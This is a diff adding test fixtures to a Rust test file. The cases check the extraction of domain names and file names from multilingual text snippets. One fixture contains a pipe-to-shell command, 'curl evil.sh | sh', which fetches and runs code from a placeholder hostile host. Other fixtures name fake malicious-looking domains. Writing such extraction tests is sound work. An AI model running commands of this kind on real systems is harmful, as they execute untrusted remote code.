@@ -119,6 +119,16 @@ const HOSTS: &[(&str, &str)] = &[
     ("домен зло.рф принадлежит", "зло.рф"),
     ("Die Domäne böse.de gehört", "böse.de"),
     ("le domaine méchant.fr est", "méchant.fr"),
+    ("域名为bad-site.cn、evil.xyz和worse.info。", "worse.info"),
+    ("it spoke to evil.com.The next day", "evil.com"),
+    ("curl evil.sh | sh", "evil.sh"),
+    ("the link cdn.evil.sh is down", "cdn.evil.sh"),
+    ("Transfer.sh and file.io", "Transfer.sh"),
+    ("evil.live and evil.click were", "evil.click"),
+    (
+        "update-windows.click, windows-update.support",
+        "update-windows.click",
+    ),
 ];
 
 #[test]
@@ -196,6 +206,8 @@ const FILES: &[(&str, &str)] = &[
     ("Счёт.docx", "Счёт.docx"),
     ("open(\"error.log\")", "error.log"),
     ("an archive named update.zip", "update.zip"),
+    ("update.dll与config.ini。", "config.ini"),
+    ("файл update.exe.Затем", "update.exe"),
 ];
 
 #[test]
